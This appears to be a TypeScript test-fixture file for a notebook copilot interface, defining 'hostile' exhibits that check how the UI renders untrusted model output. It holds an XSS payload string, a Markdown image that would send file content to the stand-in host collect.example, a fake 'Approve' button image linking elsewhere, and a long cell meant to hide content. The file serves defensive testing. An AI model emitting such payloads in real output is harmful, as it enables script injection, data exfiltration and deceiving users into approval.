import type { CopilotView } from '../src/view-model/copilot-view';
import type { CellDiff } from '../src/protocol';
import corpus from '../../tests/hostile/sources.json';
import { ALICE, at, BOB, Scene, view } from './fixtures';
import { EDIT, inserted, OVER, proposal } from './scenes';
import type { Exhibit } from './states';

/** A picture that looks like a button of ours. */
const BUTTON = `data:image/svg+xml;base64,${btoa(
  '<svg xmlns="http://www.w3.org/2000/svg" width="96" height="28"><rect width="96" height="28" rx="4" fill="#1976d2"/><text x="48" y="18" fill="#fff" font-family="sans-serif" font-size="12" text-anchor="middle">Approve</text></svg>'
)}`;
const FETCHING =
  '## Result\n\n![](https://collect.example/x.png?d=the-first-line-of-a-file)\n\nThe model fits well.';
const TRAINING = Array.from(
  { length: 60 },
  (_, step) => `history.append(train(step=${step}, rate=0.01))`
).join('\n');

const XSS =
  '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><a href="javascript:window.hacked=1">click</a> <svg onload="window.hacked=1"></svg> **bold stays**';

function hostile(): CopilotView {
  const cells = corpus.sources.map(({ name, source }, index): CellDiff => ({
    ...EDIT,
    action: 'run',
    cell_id: `hostile${index}`,
    label: name,
    before: source,
    after: null
  }));
  return proposal(`Run ${cells.length} cells`, cells);
}

/** What wants to be taken for something else than it is. */
export const HOSTILE: Exhibit[] = [
  {
    name: 'untrusted',
    view: view(
      new Scene(XSS.slice(0, 60))
        .say({ ...BOB, name: XSS }, at(-3), XSS, OVER)
        .answer(at(-3), XSS)
        .call(XSS, at(-2), {
          effect: 'execute',
          outputs: [{ kind: 'result', text: XSS, image: null, cell_id: null }]
        })
        .state()
    )
  },
  {
    name: 'hostile',
    width: 620,
    height: 3050,
    view: hostile(),
    clicks: ['.jp-Copilot-unseen .jp-Copilot-link']
  },
  { name: 'unseen', view: proposal('Insert and run a cell after cell 4', [inserted(TRAINING)]) },
  {
    name: 'fetches',
    view: proposal(
      'Insert a Markdown cell after cell 4',
      [{ ...inserted(FETCHING), cell_type: 'markdown' }],
      {
        body: 'Showing this can make browsers fetch from `collect.example`, at once and without a click: whatever stands in the address is sent there.'
      },
      'edit'
    )
  },
  {
    name: 'pictured',
    view: view(
      new Scene()
        .say(ALICE, at(-1), 'Draw me something.', OVER)
        .answer(at(-1, 5), `Here it is:\n\n[![Approve](${BUTTON})](https://elsewhere.example/x)`)
        .state()
    )
  }
];
